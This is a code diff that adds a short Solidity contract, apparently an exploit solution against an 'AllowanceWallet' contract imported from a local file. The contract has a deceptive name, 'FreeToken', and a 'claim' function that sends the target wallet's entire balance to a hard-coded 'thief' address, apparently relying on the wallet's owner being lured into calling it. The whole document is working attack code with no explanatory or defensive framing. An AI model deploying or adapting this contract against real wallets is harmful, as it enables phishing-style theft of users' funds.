@@ -1,0 +1,18 @@
+// SPDX-License-Identifier: MIT
+pragma solidity ^0.8.20;
+
+import "./contract.sol";
+
+contract FreeToken {
+    AllowanceWallet private immutable wallet;
+    address payable private immutable thief;
+
+    constructor(AllowanceWallet target, address payable to) {
+        wallet = target;
+        thief = to;
+    }
+
+    function claim() external {
+        wallet.send(thief, address(wallet).balance);
+    }
+}
